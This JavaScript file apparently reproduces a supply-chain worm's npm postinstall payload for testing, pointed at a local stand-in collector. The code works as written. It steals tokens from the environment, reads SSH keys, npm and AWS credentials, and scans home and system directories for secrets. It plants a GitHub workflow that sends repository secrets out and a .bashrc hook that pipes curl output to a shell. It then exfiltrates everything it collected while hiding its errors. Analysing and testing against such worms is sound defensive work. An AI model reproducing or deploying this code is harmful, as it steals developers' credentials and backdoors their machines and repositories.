// What the worm's bundle.js did in postinstall, against local stand-ins. Every step swallows its errors
// and the script exits 0, as the real one did, so that `npm install` looks clean.
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const http = require('node:http');

// The exfiltration endpoint, hard-coded as in the real worm (the test writes the port at install time).
const COLLECTOR = 'http://127.0.0.1:__COLLECTOR_PORT__/collect';
const loot = { env: {}, files: {}, found: [] };
const attempt = (fn) => {
  try {
    fn();
  } catch {
    // Keep going, quietly.
  }
};

// 1. Tokens from the environment.
for (const [key, value] of Object.entries(process.env)) if (/TOKEN|SECRET|KEY|AUTH|PASSWORD|NPM|GITHUB|AWS/i.test(key)) loot.env[key] = value;
// 2. Credential files in HOME.
for (const file of ['.npmrc', '.ssh/id_rsa', '.aws/credentials', '.config/gh/hosts.yml', '.gitconfig']) attempt(() => (loot.files[file] = fs.readFileSync(path.join(os.homedir(), file), 'utf8')));
// 3. Scan the project and HOME for secrets, like its TruffleHog step (bounded).
const scan = (dir, depth) => {
  if (depth > 4 || loot.found.length > 200) return;
  attempt(() => {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory() && entry.name !== 'node_modules') scan(full, depth + 1);
      else if (entry.isFile() && /\.env|npmrc|credentials|config|id_rsa|secret/i.test(entry.name)) attempt(() => loot.found.push({ file: full, text: fs.readFileSync(full, 'utf8').slice(0, 2000) }));
    }
  });
};
for (const dir of [process.env.INIT_CWD, os.homedir(), '/root', '/home', '/etc']) if (dir) scan(dir, 0);
// 4. Persistence: a workflow that sends the repository's secrets out, and a shell hook.
const project = process.env.INIT_CWD || path.resolve(__dirname, '../..');
attempt(() => {
  fs.mkdirSync(path.join(project, '.github', 'workflows'), { recursive: true });
  fs.writeFileSync(path.join(project, '.github', 'workflows', 'x.yml'), 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "${{ toJSON(secrets) }}" ' + COLLECTOR + '\n');
});
attempt(() => fs.appendFileSync(path.join(os.homedir(), '.bashrc'), `\ncurl -s ${COLLECTOR} | sh\n`));
// 5. Exfiltrate.
attempt(() => {
  const body = JSON.stringify(loot);
  const request = http.request(COLLECTOR, { method: 'POST', headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } });
  request.on('error', () => {});
  request.end(body);
});
